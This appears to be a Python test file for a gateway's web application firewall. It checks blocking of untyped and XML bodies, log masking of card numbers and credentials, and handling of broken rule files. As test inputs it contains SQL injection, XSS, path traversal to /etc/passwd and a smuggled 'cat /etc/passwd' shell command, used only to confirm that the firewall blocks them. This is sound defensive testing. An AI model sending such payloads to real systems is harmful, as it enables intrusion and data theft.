    args = ["--http2-prior-knowledge", "-i", "-X", "POST",
            "-H", "Host: " + HOST, "-H", "Content-Type:"]
    if body is not None and stream:
        args += ["-T", "-"]
    elif body is not None:
        args += ["--data-binary", "@-"]
    env = {k: v for k, v in os.environ.items()
           if k.lower() not in ("http_proxy", "https_proxy", "all_proxy")}
    p = subprocess.run(["curl", "-sS", "--noproxy", "*"] + args +
                       ["http://127.0.0.1:%d%s" % (port, path)],
                       input=body or b"", capture_output=True,
                       timeout=SEND_TIMEOUT, env=env)
    eq(p.returncode, 0, "curl: %r" % p.stderr)
    return H2Reply(p.stdout)


def untyped_refused(gw, r, what, proto="HTTP/1.1"):
    """r was refused for its missing type: 415, its JSON error, the WAF
    line blocked with 77007 and why."""
    eq(r.status, 415, "%s: status (body %r)" % (what, r.body[:200]))
    j = r.json() if hasattr(r, "json") else json.loads(r.body)
    eq((j.get("error"), j.get("status")), ("unsupported_media_type", 415),
       "%s: the answer" % what)
    return gw.expect(r.header("x-request-id"), what,
                     {"status": 415, "waf": "blocked",
                      "error": "waf_blocked", "upstream": "-",
                      "protocol": proto},
                     ("blocked", "77007", "pay", 415))


@test
def a_body_without_a_content_type_is_refused_in_block_mode():
    """Issue 77: with the Content-Type left out, a body is inspected raw,
    the CRS only notes it (920340) and the SQL injection or script in it
    went upstream, though the application parses it as JSON. In block
    mode it is refused with 415 and nothing goes upstream, over HTTP/1.1
    (a length, chunked) and HTTP/2; its WAF line says why. A request
    without a body is not refused, nor one with its type."""
    require_waf()
    h2 = not sltest.over_tls()
    gw = start([waf_route("pay", "/pay")],
               listener_opts={"protocols": ["h2", "http/1.1"]} if h2
               else None)
    rids = []
    for what, body in (("SQL injection", UNTYPED_SQLI),
                       ("a script", UNTYPED_XSS),
                       ("a legitimate body", UNTYPED_LEGIT)):
        rids.append(untyped_refused(
            gw, gw.send("POST", "/pay/v1/payments", None, body),
            "%s without a type" % what))
        rids.append(untyped_refused(
            gw, gw.send("POST", "/pay/v1/payments", CHUNKED,
                        chunked(body, 7)),
            "%s without a type, chunked" % what))
    # a type named: the CRS's answers, as before
    gw.blocked(gw.send("POST", "/pay/v1/payments", JSON_CT, UNTYPED_SQLI),
               "942", what="SQL injection as application/json")
    gw.blocked(gw.send("POST", "/pay/v1/payments",
                       {"Content-Type": "text/plain"}, UNTYPED_SQLI),
               "920", what="SQL injection as text/plain")
    # no body: nothing unread
    gw.passed(gw.send("POST", "/pay/v1/payments",
                      {"Content-Length": "0"}), "POST without a body")
    gw.passed(gw.send("GET", "/pay/v1/payments"), "GET")
    gw.passed(gw.send("POST", "/pay/v1/payments"), "POST without a length")
    n = h2
    if h2:
        # curl, as the issue's report: its Content-Type left out; with
        # its length said, and without (-T -: DATA to the end)
        for what, body in (("SQL injection", UNTYPED_SQLI),
                           ("a legitimate body", UNTYPED_LEGIT)):
            rids.append(untyped_refused(
                gw, h2_curl(gw.port, "/pay/v1/payments", body),
                "h2: %s without a type" % what, "HTTP/2.0"))
            rids.append(untyped_refused(
                gw, h2_curl(gw.port, "/pay/v1/payments", body, stream=True),
                "h2: %s without a type nor a length" % what, "HTTP/2.0"))
        r = h2_curl(gw.port, "/pay/v1/payments", None)
        eq(r.status, 200, "h2: a POST without a body")
        gw.expect(r.header("x-request-id"), "h2: no body",
                  {"status": 200, "waf": "pass", "protocol": "HTTP/2.0"})
    found = gw.verify()
    for rid in rids:
        w = found[rid][0]
        check(w["body_error"].startswith(UNTYPED_WHY) and
              w["body_error"].endswith("(waf.untyped_body names the type "
                                       "to parse it as)"),
              "the WAF line says why: %r" % w)
        eq(w["rules"][-1], 77007, "77007 refused it: %r" % w["rules"])
    eq([(q.method, q.body) for q in gw.up.requests],
       [("POST", b""), ("GET", b""), ("POST", b"")] +
       [("POST", b"")] * (1 if n else 0),
       "nothing with a body reached the upstream")
    gw.counts({"blocked": 6 + 2 + (4 if n else 0),
               "pass": 3 + (1 if n else 0)})
    check(len(re.findall(r"route=pay: 415 ", gw.sl.stderr())) >= 6,
          "an info line a refused request")
    gw.sl.stop()


@test
def a_body_without_a_content_type_is_refused_over_http3():
    """HTTP/3 (ngtcp2's gtlsclient, which names no type for the body it
    posts): refused with 415, nothing upstream; parsed as JSON on a route
    with untyped_body, where its SQL injection is the CRS's 403."""
    require_waf()
    if sltest.over_tls():
        raise Skip("HTTP/3 is its own transport: run once")
    sltest.require_http3()
    if shutil.which("gtlsclient") is None:
        raise Skip("gtlsclient not found (apt-get install ngtcp2-client)")
    d = tmpdir()
    crt, key = os.path.join(d, "c.pem"), os.path.join(d, "k.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-nodes", "-subj",
                    "/CN=localhost", "-addext",
                    "subjectAltName=DNS:localhost,IP:127.0.0.1", "-days",
                    "1", "-keyout", key, "-out", crt],
                   check=True, capture_output=True)
    gw = start([waf_route("pay", "/pay"),
                waf_route("typed", "/typed",
                          untyped_body="application/json")],
               listener_opts={"tls": {"certificates": [{"cert": crt,
                                                        "key": key}]},
                              "protocols": ["h2", "http/1.1"],
                              "http3": {"retry": "never"}})
    body = os.path.join(d, "body")
    with open(body, "wb") as f:
        f.write(UNTYPED_SQLI)

    def h3(path):
        r = subprocess.run(["gtlsclient", "--timeout=5s",
                            "--exit-on-all-streams-close", "-m", "POST",
                            "-d", body, "127.0.0.1", str(gw.port),
                            # a name: a numeric :authority scores
                            # (920350), with 920340 the CRS's 403
                            "https://localhost:%d%s" % (gw.port, path)],
                           capture_output=True, text=True, timeout=60)
        out = r.stdout + r.stderr
        eq(r.returncode, 0, "gtlsclient: %s" % out[-2000:])
        check("Negotiated ALPN is h3" in out, "h3: %s" % out[-1000:])
        return out
    out = h3("/pay/v1/payments")
    check("[:status: 415]" in out, "refused over HTTP/3: %s" % out[-1500:])
    out = h3("/typed/v1/payments")
    check("[:status: 403]" in out, "parsed as JSON: %s" % out[-1500:])
    eq(gw.up.requests, [], "nothing upstream")
    lines = read_json_lines(gw.log, lambda j: j.get("type") == "waf",
                            min_count=2)
    eq(sorted((w["route"], w["status"], w["rules"][-1]) for w in lines),
       [("pay", 415, 77007), ("typed", 403, 949110)], "the WAF lines")
    gw.sl.stop()


@test
def a_body_without_a_content_type_is_logged_in_detect_mode():
    """detect mode: forwarded whole, with its WAF line (detected, 415,
    why)."""
    require_waf()
    gw = start([waf_route("pay", "/pay", mode="detect")])
    r = gw.send("POST", "/pay/v1/payments", None, UNTYPED_LEGIT)
    eq(r.status, 200, "forwarded")
    rid = gw.expect(r.header("x-request-id"), "untyped, detect",
                    {"status": 200, "waf": "detected", "error": ""},
                    ("detected", "77007", "pay", 415))
    found = gw.verify()
    check(found[rid][0]["body_error"].startswith(UNTYPED_WHY),
          "why: %r" % found[rid][0])
    eq([q.body for q in gw.up.requests], [UNTYPED_LEGIT], "its body upstream")
    gw.counts({"detected": 1})
    gw.sl.stop()


@test
def untyped_body_names_the_type_a_body_without_one_is_parsed_as():
    """waf: untyped_body: application/json parses a body sent without a
    Content-Type as JSON: the SQL injection in it is the CRS's 403 (942,
    read as ARGS:json.ref), a legitimate one passes whole; a form route
    reads one as a form; octet-stream inspects it raw (the old way, for
    an application that parses no untyped body). /config shows the
    key."""
    require_waf()
    gw = start([waf_route("pay", "/pay", untyped_body="application/json"),
                waf_route("form", "/form",
                          untyped_body="application/x-www-form-urlencoded"),
                waf_route("raw", "/raw",
                          untyped_body="application/octet-stream")])
    gw.blocked(gw.send("POST", "/pay/v1/payments", None, UNTYPED_SQLI),
               "942", what="SQL injection, parsed as JSON")
    gw.blocked(gw.send("POST", "/pay/v1/payments", CHUNKED,
                       chunked(UNTYPED_XSS, 5)),
               "941", what="a script, chunked, parsed as JSON")
    gw.passed(gw.send("POST", "/pay/v1/payments", None, UNTYPED_LEGIT),
              "a legitimate body, parsed as JSON")
    r = gw.send("POST", "/pay/v1/payments", None, b'/*x*/{"a":1}')
    assert_error(r, 400, "bad_request")
    gw.blocked(gw.send("POST", "/form/v1/login", None,
                       b"email=a%40example.com%27%20OR%20%271%27%3D%271"),
               "942", route="form", what="SQL injection, parsed as a form")
    gw.passed(gw.send("POST", "/raw/v1/upload", None, UNTYPED_SQLI),
              "raw: inspected as a raw body", route="raw")
    found = gw.verify()
    for w, a in found.values():
        if w is not None and a["route"] == "pay":
            check(any("ARGS:json." in m["data"] for m in w["matches"]),
                  "read as JSON arguments: %r" % w["matches"])
    eq([q.body for q in gw.up.requests], [UNTYPED_LEGIT, UNTYPED_SQLI],
       "the legitimate body, and the raw route's, upstream")
    cfg = json.loads(get(gw.aport, "/config").body)
    ws = {}

    def walk(o):
        if isinstance(o, dict):
            if o.get("name") in ("pay", "form", "raw") and "waf" in o:
                ws[o["name"]] = o["waf"]
            for v in o.values():
                walk(v)
        elif isinstance(o, list):
            for v in o:
                walk(v)
    walk(cfg)
    eq({k: v.get("untyped_body") for k, v in ws.items()},
       {"pay": "application/json",
        "form": "application/x-www-form-urlencoded",
        "raw": "application/octet-stream"}, "/config's untyped_body")
    gw.sl.stop()


# XML bodies with their attack in the markup, which the rules read only
# as the text of the nodes: (what, body, the rule family)
XML_MARKUP = [
    ("a script element", b"<pay><note><script>alert(1)</script></note>"
     b"</pay>", "941"),
    ("an event handler attribute",
     b'<pay><note><img src="x" onerror="alert(1)"/></note></pay>', "941"),
    ("an svg's onload", b'<pay><svg onload="alert(1)"/></pay>', "941"),
    ("a javascript: URI in an attribute",
     b'<pay><link href="javascript:alert(1)">receipt</link></pay>', "941"),
    ("SQL injection in an attribute",
     b"<pay><amount value=\"1' OR 1=1--\"/></pay>", "942"),
    ("command injection in an attribute",
     b'<pay><export file="a.csv; cat /etc/passwd"/></pay>', "932"),
]
# legitimate XML: a SOAP envelope, a UBL invoice with namespaces, a
# comment, entities, a CDATA section
XML_LEGIT = [
    ("a SOAP envelope",
     b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/'
     b'2003/05/soap-envelope" xmlns:m="http://www.example.org/pay">'
     b'<soap:Body><m:Pay><m:Amount currency="GBP">12.00</m:Amount>'
     b'<m:Note>Receipt for March</m:Note></m:Pay></soap:Body>'
     b'</soap:Envelope>'),
    ("an invoice",
     b'<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="urn:oasis:'
     b'names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:'
     b'names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n'
     b'  <cbc:ID>INV-2026-0042</cbc:ID>\n  <!-- issued by the shop -->\n'
     b"  <cbc:Name>O'Brien &amp; Sons Ltd</cbc:Name>\n"
     b'  <cbc:Amount currencyID="EUR">24.00</cbc:Amount>\n'
     b'  <cbc:Note><![CDATA[Paid by card; see https://pay.example.com/r/42'
     b'?a=1&b=2]]></cbc:Note>\n</Invoice>'),
    # element names that begin like HTML's: the CRS's 941140 and 941160
    # would take them for markup, which is why they do not read it
    ("names like HTML's",
     b'<order><meta><format>pdf</format><styleId>3</styleId></meta>'
     b'<form id="W-9"><param name="year">2026</param></form></order>'),
]


@test
def an_xml_bodys_markup_and_attributes_are_inspected():
    """Issue 77: an XML body's markup (a <script> element, an onerror
    attribute) and its attribute values were read by no rule (the rules
    read the text of its nodes), so each of these passed a blocking
    route; they are the CRS's 403 now, nothing upstream, while
    legitimate documents (namespaces, a comment, entities, CDATA) and
    JSON bodies pass as before."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    for what, body, fam in XML_MARKUP:
        for ct in ("application/xml", "application/soap+xml"):
            gw.blocked(gw.send("POST", "/pay/v1/payments",
                               {"Content-Type": ct}, body), fam,
                       what="%s (%s)" % (what, ct))
    eq(gw.up.requests, [], "nothing reached the upstream")
    for what, body in XML_LEGIT:
        gw.passed(gw.send("POST", "/pay/v1/payments", XML_CT, body), what)
    legit = json_body({"name": "Zo\u00eb O'Brien", "note": "a <b>bold</b> "
                       "order", "amount": 1200})
    gw.passed(gw.send("POST", "/pay/v1/payments", JSON_CT, legit),
              "a JSON body with markup-like text")
    gw.verify()
    eq([q.body for q in gw.up.requests], [b for _, b in XML_LEGIT] + [legit],
       "the legitimate bodies upstream, whole")
    gw.counts({"blocked": 2 * len(XML_MARKUP), "pass": len(XML_LEGIT) + 1})
    gw.sl.stop()


@test
def the_body_error_ends_with_its_last_word():
    """Issue 77: the WAF line's body_error ended with the library's line
    end, escaped ("...not enabled.\\x0a")."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    r = gw.send("POST", "/pay/v1/customers", JSON_CT, b'/*x*/{"a":1}')
    assert_error(r, 400, "bad_request")
    rid = gw.expect(r.header("x-request-id"), "JSON with a comment",
                    {"status": 400, "waf": "blocked"},
                    ("blocked", "77004", "pay", 400))
    w = gw.verify()[rid][0]
    eq(w["body_error"], "JSON parsing error: lexical error: probable "
       "comment found in input text, comments are not enabled.",
       "body_error, whole")
    gw.sl.stop()


@test
def a_cut_body_on_a_partial_route_is_inspected_as_far_as_it_parses():
    """on_body_limit: partial gives the rules the first body_limit bytes,
    which no JSON or multipart processor reads to a proper end: that
    failure is the cut's, so a legitimate large body passes, while an
    attack in the fields before the cut, and an unparsable body within
    the limit, are still refused."""
    require_waf()
    gw = start([waf_route("pay", "/pay", body_limit="1KiB",
                          on_body_limit="partial")])
    big = json_body({"name": "Eve", "note": "x" * 3000})
    gw.passed(gw.send("POST", "/pay/v1/notes", JSON_CT, big),
              "a legitimate JSON body past body_limit")
    early = json_body({"name": XSS, "note": "x" * 3000})
    gw.blocked(gw.send("POST", "/pay/v1/notes", JSON_CT, early), "941",
               what="an attack before the cut")
    r = gw.send("POST", "/pay/v1/notes", JSON_CT, UNPARSED[0][2])
    assert_error(r, 400, "bad_request")
    gw.verify()
    eq([u.body for u in gw.up.requests], [big], "only the legitimate body")
    gw.sl.stop()


@test
def t_refuses_an_exclusion_of_sluices_own_rules():
    """The body checks cannot be excluded from a route (a route that
    removed 77004 would forward what its rules could not read)."""
    require_waf()
    d = tmpdir()
    for ex in ([77004], [{"rule": 77003, "field": "MULTIPART_STRICT_ERROR"}]):
        cfg, _ = make_config({"pay": ["127.0.0.1:9"]}, routes=[
            waf_route("pay", "/pay", exclude=ex)])
        path = write_yaml(os.path.join(d, "own.yaml"), cfg)
        rc, out, err = run_sluice(["-t", "-c", path])
        check(rc != 0 and re.search(r"^%s:\d+:\d+: error: route \"pay\": "
                                    r"waf: \"exclude\": 7700[34] is one of "
                                    r"sluice's own rules" % re.escape(path),
                                    err, re.M),
              "-t refuses %r: %r" % (ex, err))


@test
def t_checks_the_waf_log_and_names_its_place():
    """-t checks that waf.log can be opened, and says where the key is,
    as every other configuration error does."""
    require_waf()
    d = tmpdir()
    cfg, _ = make_config({"pay": ["127.0.0.1:9"]}, routes=[
        waf_route("pay", "/pay")],
        extra={"waf": {"log": "/nonexistent-dir/waf.log"}})
    path = write_yaml(os.path.join(d, "wlog.yaml"), cfg)
    rc, out, err = run_sluice(["-t", "-c", path])
    with open(path) as f:
        lines = f.read().splitlines()
    n = [i for i, l in enumerate(lines, 1) if "/nonexistent-dir/waf.log"
         in l][0]
    col = lines[n - 1].index("/nonexistent") + 1
    check(rc != 0 and re.search(r"^%s:%d:%d: error: waf: \"log\": cannot "
                                r"open \"/nonexistent-dir/waf.log\""
                                % (re.escape(path), n, col), err, re.M),
          "-t names the file, line and column: %r" % err)


# ---------------------------------------------------------------------------
# Legitimate payment traffic: no false positives at paranoia level 1


SDK_FIELDS = {"Accept": "application/json",
              "User-Agent": "acme-pay-sdk/2.3.1 (python 3.11; linux)",
              "Authorization": "Bearer sk_test_51Mz0aKJZ9Qx7cYq2"}


def methods_conf(name="methods"):
    """A rule file that lets PUT, PATCH and DELETE through
    (tx.allowed_methods), listed before the CRS's rules."""
    path = os.path.join(tmpdir(), name + ".conf")
    with open(path, "w") as f:
        f.write(METHODS_CONF)
    return path


def send_payment(gw, prefix, q, client=None, i=0):
    """One request of waf_payments.json under prefix, as an SDK sends
    it; returns (response, the body sent)."""
    h = dict(SDK_FIELDS)
    body = None
    if "json" in q:
        body = json_body(q["json"])
        h.update(JSON_CT)
        h["Idempotency-Key"] = "4f1c2b8e-9d3a-4e6f-8b7c-%012d" % i
    return gw.send(q["method"], prefix + q["path"], h, body, client), body


@test
def legitimate_payment_requests_pass_unchanged():
    require_waf()
    data = payments()["requests"]
    check(sum(1 for q in data if "json" in q) >= 30, "30 JSON bodies")
    gw = start([waf_route("pay", "/pay",
                          rules=[methods_conf(), CRS_SETUP, CRS_RULES])])
    c = Client(gw.port)
    sent = []
    for i, q in enumerate(data):
        r, body = send_payment(gw, "/pay", q, c, i)
        gw.passed(r, "%s %s %s (a false positive? see its WAF line)"
                  % (q["method"], q["path"], q.get("json", "")))
        sent.append((q["method"], "/pay" + q["path"], body or b""))
    c.close()
    gw.verify()
    got = [(u.method, u.target, u.body) for u in gw.up.requests]
    eq(len(got), len(sent), "every request reached the upstream")
    for g, s in zip(got, sent):
        eq(g, s, "the request upstream, body byte for byte")
    gw.counts({"pass": len(data)})
    gw.sl.stop()


@test
def flagged_legitimate_shapes_pass_with_a_per_field_exclusion():
    """What the CRS flags in legitimate payment traffic at paranoia level
    1 (waf_payments.json's "flagged"): blocked without the route's
    exclusion, forwarded unchanged with it, while the same rule still
    blocks the same text, or an SQL injection, in any other field. And
    PUT, PATCH and DELETE: blocked (911100) until tx.allowed_methods
    names them."""
    require_waf()
    d = payments()
    flagged = d["flagged"]
    gw = start([
        waf_route("crs", "/crs"),
        waf_route("strict", "/strict",
                  rules=[methods_conf("strict"), CRS_SETUP, CRS_RULES]),
        waf_route("pay", "/pay",
                  rules=[methods_conf("pay"), CRS_SETUP, CRS_RULES],
                  exclude=[f["exclude"] for f in flagged])])
    passed = []
    for f in flagged:
        r, body = send_payment(gw, "/strict", f)
        gw.blocked(r, str(f["rule"]), route="strict",
                   what="%s, without the exclusion" % f["why"])
        r, body = send_payment(gw, "/pay", f)
        gw.passed(r, "%s, with %r" % (f["why"], f["exclude"]))
        passed.append(("/pay" + f["path"], body or b""))
        if "json" in f and f["exclude"]["field"].startswith("ARGS:json."):
            # the same text in another field: the rule still looks there
            name = f["exclude"]["field"][len("ARGS:json."):]
            other = dict(f["json"])
            other["memo"] = other.pop(name)
            r, _ = send_payment(gw, "/pay", dict(f, json=other))
            gw.blocked(r, str(f["rule"]),
                       what="%s, in another field" % f["why"])
    # an SQL injection beside the excluded note: 942100 still blocks it
    note = next(f for f in flagged if f["rule"] == 942100)
    r, _ = send_payment(gw, "/pay", dict(note, json=dict(
        note["json"], customer_id="1' OR 1=1--")))
    sqli = gw.blocked(r, "942100", what="SQL injection beside the note")
    # REST methods: 911100 without tx.allowed_methods
    rest = [q for q in d["requests"]
            if q["method"] in ("PUT", "PATCH", "DELETE")]
    for m in ("PUT", "PATCH", "DELETE"):
        q = next(q for q in rest if q["method"] == m)
        r, _ = send_payment(gw, "/crs", q)
        gw.blocked(r, "911100", route="crs", what=m)
        r, body = send_payment(gw, "/strict", q)
        gw.passed(r, "%s with tx.allowed_methods" % m, route="strict")
        passed.append(("/strict" + q["path"], body or b""))
    found = gw.verify()
    hit = [x for x in found[sqli][0]["matches"] if x["id"] == 942100]
    check(hit and "ARGS:json.customer_id" in hit[0]["data"],
          "942100 matched customer_id: %r" % hit)
    eq([(u.target, u.body) for u in gw.up.requests], passed,
       "only the legitimate requests went upstream, unchanged")
    gw.sl.stop()


@test
def routes_with_other_rules_or_exclusions_get_their_own_rule_set():
    """Routes share a loaded set only when their files and exclusions
    are all the same: two routes whose rules start with the same file
    but differ after it, or differ in exclusions, each get their own."""
    require_waf()
    f = next(f for f in payments()["flagged"] if f["rule"] == 942100)
    gw = start([
        waf_route("crs", "/crs"),
        waf_route("excl", "/excl", exclude=[f["exclude"]]),
        waf_route("methods", "/methods",
                  rules=[CRS_SETUP, methods_conf(), CRS_RULES])])
    r, _ = send_payment(gw, "/crs", f)
    gw.blocked(r, "942100", route="crs", what="the note, no exclusion")
    r, _ = send_payment(gw, "/excl", f)
    gw.passed(r, "the note on the route that excludes it", route="excl")
    put = {"method": "PUT", "path": "/v1/customers/cus_1",
           "json": {"name": "Zoë"}}
    r, _ = send_payment(gw, "/crs", put)
    gw.blocked(r, "911100", route="crs", what="PUT, default methods")
    r, _ = send_payment(gw, "/methods", put)
    gw.passed(r, "PUT on the route whose file allows it", route="methods")
    gw.verify()
    gw.sl.stop()


# ---------------------------------------------------------------------------
# Masking: card numbers and credentials in the WAF log


def no_raw_card(gw, secrets=()):
    """The raw card number (and each of secrets) appears in no log."""
    with open(gw.log, encoding="utf-8") as f:
        text = f.read()
    for where, t in (("the access/WAF log", text),
                     ("the error log", gw.sl.stderr())):
        for s in (CARD, "4111 1111 1111 1111") + tuple(secrets):
            bad = [line for line in t.splitlines() if s in line]
            check(not bad, "%r in %s:\n%s" % (s, where,
                                              "\n".join(bad)[:1500]))


@test
def card_numbers_and_credentials_are_masked_in_the_waf_log():
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    # a card number beside an SQL injection: a JSON field, a query
    cards = [
        gw.blocked(gw.send("POST", "/pay/v1/charges", JSON_CT, {
            "memo": CARD + "' UNION SELECT pan FROM cards--"}), "942",
            what="a card in a JSON field"),
        gw.blocked(gw.send("GET", "/pay/v1/charges?ref=%s%%27%%20OR%%201"
                           "%%3D1--" % CARD), "942",
                   what="a card in a query"),
        gw.blocked(gw.send("POST", "/pay/v1/charges", JSON_CT, {
            "memo": "4111 1111 1111 1111' OR 1=1--"}), "942",
            what="a card written in groups")]
    # a credential's field: none of its value
    creds = [
        (gw.blocked(gw.send("POST", "/pay/v1/charges", JSON_CT,
                            {"card_token": "tok_' OR 1=1--"}), "942",
                    what="card_token"), "card_token"),
        (gw.blocked(gw.send("POST", "/pay/v1/login", JSON_CT,
                            {"user": "bob", "password": "' or '1'='1"}),
                    "942", what="a JSON password"), "password"),
        (gw.blocked(gw.send("POST", "/pay/v1/login", FORM_CT,
                            b"user=bob&password=%27%20or%20%271%27%3D%271"),
                    "942", what="a form password"), "password")]
    found = gw.verify()
    for rid in cards[:2]:
        w = found[rid][0]
        data = [m["data"] for m in w["matches"] if m["id"] == 942100][0]
        check(CARD_MASKED in data, "masked in the matched data: %r" % data)
    eq(found[cards[1]][0]["path"], "/pay/v1/charges?ref=*", "the path")
    data = found[cards[2]][0]["matches"][0]["data"]
    check(data.endswith("1111' OR 1=1--") and "*" in data,
          "the grouped card masked, the match kept: %r" % data)
    for rid, name in creds:
        for m in found[rid][0]["matches"]:
            if m["data"]:
                check(re.match(r"^Matched Data: \* found within "
                               r"[A-Za-z_.:]*%s: \*$" % name, m["data"]),
                      "%s: the value masked: %r" % (name, m["data"]))
    no_raw_card(gw, ["tok_' OR 1=1--", "' or '1'='1"])
    gw.sl.stop()
    no_raw_card(gw)


@test
def a_header_named_in_secret_headers_is_masked_in_the_waf_log():
    """A credential's field is one by one rule (hdrrule.h,
    sl_hdr_name_secret): a client's field named in secret_headers, which
    no word of the WAF's says is one, is masked in the WAF log as
    Authorization is: none of its value in any log. The rules match the
    path in it (930110, 930120)."""
    require_waf()
    gw = start([waf_route("pay", "/pay")],
               top={"secret_headers": ["X-Internal-Key"]})
    tok = "tokI" + secrets.token_hex(8)
    rid = gw.blocked(gw.send("GET", "/pay/v1/charges",
                             {"X-Internal-Key": tok + "/../../etc/passwd"}),
                     "930", what="a path in X-Internal-Key")
    found = gw.verify()
    datas = [m["data"] for m in found[rid][0]["matches"] if m["data"]]
    check(datas, "the matches say what they matched: %r" % (found[rid],))
    for d in datas:
        if "x-internal-key" not in d.lower():
            continue
        check(re.match(r"^Matched Data: \* found within "
                       r"REQUEST_HEADERS:X-Internal-Key: \*$", d, re.I),
              "the value masked: %r" % d)
    check(any("x-internal-key" in d.lower() for d in datas),
          "a match in X-Internal-Key: %r" % datas)
    with open(gw.log, encoding="utf-8") as f:
        text = f.read()
    for where, t in (("the access/WAF log", text),
                     ("the error log", gw.sl.stderr())):
        bad = [line for line in t.splitlines() if tok.lower() in
               line.lower()]
        check(not bad, "the token in %s:\n%s" % (where, "\n".join(bad)))
    gw.sl.stop()


@test
def a_card_number_in_the_path_is_masked_without_an_access_log():
    """With the access log off (the WAF's lines then go to stderr) and
    log.query: full, the target kept for the logs is not masked for an
    access line: the WAF line masks its card numbers itself."""
    require_waf()
    up = Upstream("pay")
    cfg, port = make_config(
        {"pay": [up]}, routes=[waf_route("pay", "/pay")],
        extra={"log": {"level": "info", "access": "off", "query": "full"}})
    sl = start_sluice(cfg)
    r = get(port, "/pay/v1/charges?pan=%s&q=%%3Cscript%%3Ealert(1)%%3C%%2F"
            "script%%3E" % CARD, [("Host", HOST),
                                  ("X-Request-Id", "r-" + CARD)])
    eq(r.status, 403, "blocked")
    # issue 61: a client's own request id and the processor's words on a
    # body it could not parse are the client's text too
    c = Client(port)
    body = b'{"pan": "' + CARD.encode() + b'", "memo": x' + CARD.encode()
    c.send(build_request("POST", "/pay/v1/charges",
                         [("Host", HOST), ("Content-Type", "application/json")],
                         body))
    eq(c.read_response().status, 400, "an unparsable body refused")
    c.close()
    check(wait_until(lambda: sl.stderr().count('"type":"waf"') >= 2, 5.0),
          "two WAF lines on stderr")
    lines = [json.loads(x) for x in sl.stderr().splitlines()
             if '"type":"waf"' in x]
    check(CARD_MASKED in lines[0]["path"],
          "the card masked in the path: %r" % lines[0])
    eq(lines[0]["request_id"], "r-" + CARD_MASKED, "the client's id masked")
    check("body_error" in lines[1], "the body's error logged: %r" % lines[1])
    check(CARD not in sl.stderr(), "no raw card number on stderr:\n%s"
          % sl.stderr())
    sl.stop()


@test
def query_values_stay_out_of_the_waf_line_without_an_access_log():
    """With the access log off and log.query as it comes (names), the
    WAF's line shows the query's names, not its values: the target kept
    as it came is masked when the line is written."""
    require_waf()
    up = Upstream("pay")
    cfg, port = make_config(
        {"pay": [up]}, routes=[waf_route("pay", "/pay")],
        extra={"log": {"level": "info", "access": "off"}})
    sl = start_sluice(cfg)
    r = get(port, "/pay/v1/charges?pan=%s&q=%%3Cscript%%3Ealert(1)%%3C%%2F"
            "script%%3E" % CARD, [("Host", HOST)])
    eq(r.status, 403, "blocked")
    check(wait_until(lambda: '"type":"waf"' in sl.stderr(), 5.0),
          "a WAF line on stderr")
    line = [json.loads(x) for x in sl.stderr().splitlines()
            if '"type":"waf"' in x][0]
    eq(line["path"], "/pay/v1/charges?pan=*&q=*", "the path's query names")
    sl.stop()


@test
def a_card_number_in_a_matched_request_line_is_masked():
    """Rules that match the whole request line (930110 on REQUEST_URI)
    log it as the matched value: a card number in it is masked, whatever
    else the line holds (a word such as token)."""
    require_waf()
    gw = start([waf_route("pay", "/pay")])
    for q in ("file=../../etc/hosts&card=" + CARD,
              "file=../../etc/hosts&token=" + CARD):
        gw.blocked(gw.send("GET", "/pay/v1/receipts?" + q), "930", what=q)
    gw.verify()
    gw.sl.stop()
    no_raw_card(gw)


# ---------------------------------------------------------------------------
# Broken rule files: -t and reloads


LOCAL_RULE = ('SecRule ARGS:probe "@streq %s" '
              '"id:10001,phase:2,deny,status:403,log,msg:\'local rule\'"\n')
BROKEN = 'SecRule ARGS:other "@rx x" "id:10002,phase:2,nosuchaction"\n'


def rules_key_place(conf_path):
    """FILE:LINE:COL of the value of the first "rules:" key (as
    to_yaml writes it: a block sequence on the next line)."""
    with open(conf_path) as f:
        lines = f.read().splitlines()
    for n, line in enumerate(lines, 1):
        if line.strip() == "rules:":
            return "%s:%d:%d" % (conf_path, n + 1, lines[n].index("-") + 1)
    raise AssertionError("no rules: in %s" % conf_path)


@test
def a_broken_rule_file_is_refused_by_t_and_by_a_reload():
    require_waf()
    d = tmpdir()
    local = os.path.join(d, "local.conf")
    with open(local, "w") as f:
        f.write(LOCAL_RULE % "blockme" + BROKEN)
    routes = [waf_route("pay", "/pay", rules=CRS + [local])]
    cfg, _ = make_config({"pay": ["127.0.0.1:9"]}, routes=routes)
    path = write_yaml(os.path.join(d, "broken.yaml"), cfg)
    rc, out, err = run_sluice(["-t", "-c", path])
    check(rc != 0, "-t accepted a broken rule file: %r" % err)
    check(re.search(r"^%s: error: route \"pay\": waf: %s:2: Expecting an "
                    r"action" % (re.escape(rules_key_place(path)),
                                 re.escape(local)), err, re.M),
          "-t names the configuration's place, the file and its line: %r"
          % err)
    # a running sluice: the broken file refuses the reload
    with open(local, "w") as f:
        f.write(LOCAL_RULE % "blockme")
    gw = start(routes)
    gw.sl.expect_errors(r"^reload: ", r"waf: .*local\.conf:2")
    attack = "/pay/v1/charges?id=1%27%20OR%201%3D1--"

    def serves(gen, local_value):
        gw.blocked(gw.send("GET", attack), "942", what="CRS, %s" % gen)
        r = gw.send("GET", "/pay/v1/charges?probe=" + local_value)
        gw.blocked(r, "10001", what="the local rule, %s" % gen)
        gw.passed(gw.send("GET", "/pay/v1/charges?limit=10"),
                  "a legitimate request, %s" % gen)
    serves("first", "blockme")
    with open(local, "w") as f:
        f.write(LOCAL_RULE % "blockme" + BROKEN)
    res, log = sighup_reload(gw.sl, gw.aport)
    eq(res, "failed", "a reload with a broken rule file")
    check(re.search(r"waf: %s:2: Expecting an action" % re.escape(local),
                    log), "the refusal names the file and line: %r" % log)
    serves("after the refused reload", "blockme")
    # fixed, and the local rule now matches another value: it loads
    with open(local, "w") as f:
        f.write(LOCAL_RULE % "blockme-too")
    res, log = sighup_reload(gw.sl, gw.aport)
    eq(res, "ok", "the fixed file reloads: %r" % log)
    serves("after the fixed reload", "blockme-too")
    gw.passed(gw.send("GET", "/pay/v1/charges?probe=blockme"),
              "the old local rule is gone")
    gw.verify()
